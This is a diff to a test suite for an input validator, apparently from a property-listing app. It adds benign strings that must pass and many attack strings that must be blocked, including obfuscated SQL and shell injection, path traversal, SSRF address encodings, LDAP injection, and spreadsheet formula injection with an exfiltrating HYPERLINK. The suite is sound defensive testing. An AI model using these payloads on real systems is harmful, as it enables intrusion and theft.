@@ -13,12 +13,15 @@ describe('a plain value', () => {
     "O'Brien", "D'Angelo & Sons", '12 Union St; Unit 4', '4412 Meridian Ave N #3', 'Smith & Wesson Rd', '5 or 6 bedrooms', 'select the best offer from the list', 'Drop off the keys', 'AT&T',
     "it's 5 or more", 'LST-000001', '206-555-0134', '2026-11-25T10:00:00Z', '1/2 acre', 'Rock -- paper', '50% down', 'update the listing and delete the old photo', '[[phone:c7f2]]', 'O"Neil', 'C++ developer',
     'union station', 'necklace length 16" or 18"', 'https://media.example/1.jpg', 'docs/offers/2026.pdf',
+    'Drop table from inclusions; keep the chairs', "5' x 8'", "6' - 8' ceilings", 'A & B Realty', '3 bed; 2 bath', 'C/O Smith', 'cats; dogs', 'sleeps 6; sleep sofa', 'Echo Lake; Cat Creek', 'order by 3pm', 'id required; pets ok',
+    "D'Angelo's & O'Brien's", 'beds >= 3 and baths >= 2', '1=yes, 2=no', '-5 degrees', '- price: 500k; beds: 3', '100% {or best}', '~1,200 sq ft', 'Count (approx.)',
   ])('passes: %s', (text) => {
     expect(verdictOf(text, 'name')).toBe('allow');
   }); // prettier-ignore
 
   it.each([
     "' or 1=1 --", "' OR 'a'='a", "admin'--", '1 or 1=1', "1; DROP TABLE users", "x' UNION SELECT null, version() --", '1 AND SLEEP(5)', "1' AND (SELECT COUNT(*) FROM users) > 0 --", "'; exec xp_cmdshell('dir') --",
+    "aa'!=3 or-1=-'1", '3.2UNION SELECT.2alias', '7*/*!50000(1)union*/all(select 1,2 from t)', '1 AND 1 NOT LIKE 0', "' or user like '%", '1 union/*x*/select 1,2', "';if 1=1 shutdown-- -", 'hex(concat(user(),version()))', '2 and 1=(select 1 from t where a=b)',
     '1 UNION/**/SELECT 1,2,3', "%27%20or%201%3D1--", "1 and ascii(substring(database(),1,1))>64", "1' ORDER BY 7--", "1' waitfor delay '0:0:5'--", '1 OR x=x', "-1 union all select table_name from information_schema.tables",
   ])('is blocked for SQL: %s', (text) => {
     expect(verdictOf(text, 'id')).toBe('block');
@@ -36,6 +39,14 @@ describe('a parameter that may reach a shell', () => {
     '%0a id',
     '${jndi:ldap://a.example/x}',
     '() { :;}; /bin/bash -c id',
+    ';c^at /etc/hosts',
+    ";c'a't /etc/hosts",
+    ';/b?n/c?t /x',
+    ';$(echo aWQ=|base64 -d)',
+    '; Start-Process calc.exe',
+    '${PATH:0:1}bin${PATH:0:1}id',
+    ';a=i;b=d;$a$b',
+    'cat <<EOF | sh',
   ])('is blocked: %s', (text) => {
     expect(verdictOf(text, 'filename')).toBe('block');
     expect(verdictOf(text, 'command')).toBe('block');
@@ -61,6 +72,16 @@ describe('a path', () => {
     'a.pdf\u0000.png',
     'file:///etc/passwd',
     'php://filter/resource=x',
+    '\\\\files.example\\share\\x',
+    '//files.example/share/x.pdf',
+    '\\\\?\\C:\\x.txt',
+    '\u2025/\u2025/x',
+    '\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fx',
+    '/./etc/./passwd',
+    'web.config::$DATA',
+    '$HOME/.x/y',
+    'plan.pdf\nid',
+    '--upload-pack=id',
   ])('is blocked: %s', (text) => {
     expect(verdictOf(text, 'path')).toBe('block');
   });
@@ -78,7 +99,7 @@ describe('a link', () => {
     'http://127.0.0.1/', 'http://localhost:8080', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/', 'http://127.1', 'http://0/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::ffff:a9fe:a9fe]/',
     'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/', 'http://10.0.0.8/', 'http://192.168.1.1', 'http://172.20.0.2', 'http://[fd00::1]/', 'http://127.0.0.1.nip.io', 'http://a@127.0.0.1/',
     'http://127.0.0.1\\@a.example/', 'http://[::ffff:0:127.0.0.1]/', 'http://[64:ff9b::7f00:1]/', 'http://[64:ff9b:1::7f00:1]/', 'http://[2002:7f00:1::]/', 'http://[::127.0.0.1]/', 'http://127.0.0.1../', 'http://localhost./', 'http:127.0.0.1', 'ht\ttp://127.0.0.1/', 'http://10-0-0-8.probe.example/',
-    'http://7f000001.08080808.rebind.example/', 'see http://10.0.0.8/ for it', 'https://a.example/go?to=http%253A%252F%252F127.0.0.1%252F', 'https://a.example/go?to=//169.254.169.254/', 'http://%31%32%37.0.0.1/', 'http://127。0。0。1/', 'http://0x7f.1/', 'http://metadata.goog/', 'gopher://a.example/_x', 'file:///etc/passwd', 'dict://a.example:11211/', '//169.254.169.254/', 'http://①②⑦.⓪.⓪.①/', 'http://100.100.100.200/',
+    'http://7f000001.08080808.rebind.example/', 'see http://10.0.0.8/ for it', 'http://${HOST}/x', 'http://{{host}}/x', 'http://⑩.⓪.⓪.①/',  'https://a.example/go?to=http%253A%252F%252F127.0.0.1%252F', 'https://a.example/go?to=//169.254.169.254/', 'http://%31%32%37.0.0.1/', 'http://127。0。0。1/', 'http://0x7f.1/', 'http://metadata.goog/', 'gopher://a.example/_x', 'file:///etc/passwd', 'dict://a.example:11211/', '//169.254.169.254/', 'http://①②⑦.⓪.⓪.①/', 'http://100.100.100.200/',
   ])('is blocked: %s', (text) => {
     expect(verdictOf(text, 'url')).toBe('block');
   }); // prettier-ignore
@@ -109,6 +130,12 @@ describe('templates, operators and markup', () => {
     '{"$ne": null}',
     'username[$ne]=x',
     '<script>alert(1)</script>',
+    '%{7*7}',
+    '*)(uid=*))(|(uid=*',
+    'admin)(&)',
+    "=cmd|'/c calc'!A0",
+    '=HYPERLINK("http://a.example/?"&A1,"x")',
+    '<!--#exec cmd="id"-->',
     'x%0d%0aSet-Cookie: a=1',
     'x\r\nBcc: a@b.example',
     'x\nLocation: https://a.example/',
